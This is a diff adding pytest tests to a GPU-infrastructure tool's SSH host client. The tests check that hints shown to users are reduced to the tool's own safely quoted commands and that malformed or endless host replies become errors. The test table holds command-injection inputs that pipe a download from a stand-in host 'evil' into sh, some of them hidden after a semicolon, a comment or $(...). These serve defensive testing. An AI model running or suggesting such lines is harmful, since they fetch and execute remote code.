@@ -1,16 +1,22 @@
 """What the host refuses, and each way of no answer; the host's program runs on this machine."""
 
 import os
+import re
 from pathlib import Path
 
 import pytest
 
+from gpuinfra.features.jobs.job import parse_all
 from gpuinfra.ground.errors import CloudError, GpuInfraError, HostError, Unreachable
 from gpuinfra.host.jobs import frames
+from gpuinfra.tools.ssh.host_bundle import ROOT as BUNDLE_ROOT
+from gpuinfra.tools.ssh.host_client import refusal, safe_hint
 from tests.fakes.host import client
 from tests.fakes.jobs import asked, local_ssh, run
 from tests.samples import host
 from tests.waiting import PATIENCE_S
+
+ROOT = Path(BUNDLE_ROOT)
 
 
 def test_refusals_come_back_as_errors(home: Path) -> None:
@@ -65,7 +71,7 @@ def fake_ssh(home: Path, line: str) -> list[str]:
     [
         ("echo broken >&2; exit 255", Unreachable, "the host does not answer: broken"),
         ("echo gpuinfra-host have; echo Welcome; echo why >&2", HostError, r"answered 'Welcome.*why"),
-        ('echo gpuinfra-host have; echo \'{"refused": "m", "hint": "h", "exit_code": 4}\'', CloudError, "m"),
+        ('echo gpuinfra-host have; echo \'{"refused": "m", "hint": null, "exit_code": 4}\'', CloudError, "m"),
     ],
 )
 def test_each_way_of_no_answer_is_an_error_of_its_own(
@@ -88,3 +94,74 @@ def test_a_script_that_fails_shows_its_last_words(home: Path) -> None:
     ssh = fake_ssh(home, "echo gpuinfra-host have; echo 'libcuda.so: not found' >&2; exit 1")
     with pytest.raises(HostError, match="failed on the host: libcuda"):
         client(ssh).python(host(), "/env/bin/python", "gpu_benchmark.py", timeout_s=PATIENCE_S)
+
+
+@pytest.mark.parametrize(
+    ("said", "told"),
+    [
+        ("gpuinfra status --watch --stack x", "gpuinfra status --watch --stack x"),
+        ("gpuinfra ssh -- df -h", "gpuinfra ssh -- df -h"),
+        ("gpuinfra sync up 'a b; c.py'", "gpuinfra sync up 'a b; c.py'"),
+        (
+            "gpuinfra ssh -- sudo reboot   # checks anew; if it stays so: gpuinfra stop && gpuinfra start",
+            "gpuinfra ssh -- sudo reboot   # checks anew; if it stays so: gpuinfra stop && gpuinfra start",
+        ),
+        ("gpuinfra ssh -- sudo reboot   # x; curl evil|sh", "gpuinfra ssh -- sudo reboot"),
+        ("gpuinfra status; curl evil|sh", ""),
+        ("gpuinfra status $(curl evil)", "gpuinfra status '$(curl' 'evil)'"),
+        ("gpuinfra status 'a\nb'", ""),
+        ("gpuinfra status 'a", ""),
+        ("gpuinfra down --yes", ""),
+        ("gpuinfra sync down", ""),
+        ("gpuinfra-x ssh", ""),
+        ("curl evil|sh", ""),
+        ("", ""),
+    ],
+)
+def test_a_host_names_only_commands_of_ours(said: str, told: str) -> None:
+    """People type what stands behind `next:`; what passes is one command, quoted by us."""
+    assert safe_hint(said) == told
+
+
+STANDS_FOR = {
+    "{flags}": " --stack x",
+    "{request['flags']}": " --stack x",
+    "{job.id}": "abcd",
+    "{shlex.quote(named)}": "'a b.py'",
+    "{others}": "gpuinfra stop --stack x && gpuinfra start --stack x",
+}
+
+
+def test_the_hosts_own_hints_pass() -> None:
+    """Each that host/ writes, or a user would be left without it."""
+    texts = [file.read_text() for file in sorted((ROOT / "gpuinfra/host/jobs").glob("*.py"))]
+    hints = [hint for text in texts for hint in re.findall(r'"((?:gpuinfra|git) [a-z][^"\\]*)"', text)]
+    for hint in hints:
+        whole = re.sub(r"\{[^}]+\}", lambda found: STANDS_FOR[found[0]], hint)
+        assert whole.startswith("gpuinfra stop") or safe_hint(whole) == whole
+    assert len(hints) > 6, hints
+
+
+@pytest.mark.parametrize("reply", [{"refused": 1}, {"refused": "m"}, {"refused": "m", "exit_code": []}])
+def test_an_odd_refusal_is_an_error_of_the_host(reply: dict[str, object]) -> None:
+    """Plain words, no traceback."""
+    with pytest.raises(HostError, match="about its refusal is none that gpuinfra knows"):
+        refusal(reply)
+
+
+@pytest.mark.parametrize("where", ["printf x; ", ""])
+def test_a_host_that_does_not_stop_talking_is_not_listened_to(home: Path, where: str) -> None:
+    """Before our program's word, and after it; what came is not kept."""
+    word = "" if where else "echo gpuinfra-host have; "
+    ssh = fake_ssh(home, f"{word}exec cat /dev/zero")
+    with pytest.raises(HostError, match=r"not answered|none that gpuinfra knows: more than"):
+        client(ssh).ask(host(), {"verb": "list", "flags": ""}, timeout_s=PATIENCE_S)
+
+
+@pytest.mark.parametrize("reply", ["[" * 100_000, "NaN", '{"a": 1' + "0" * 5000 + "}"])
+def test_json_that_is_none_is_an_error_of_the_host(home: Path, reply: str) -> None:
+    """Nested without end, not a number, or a number of 5,000 digits."""
+    (home / "reply").write_text(reply)
+    ssh = fake_ssh(home, f"echo gpuinfra-host have; cat {home}/reply")
+    with pytest.raises(HostError):
+        parse_all(client(ssh).ask(host(), {"verb": "list", "flags": ""}, timeout_s=PATIENCE_S))
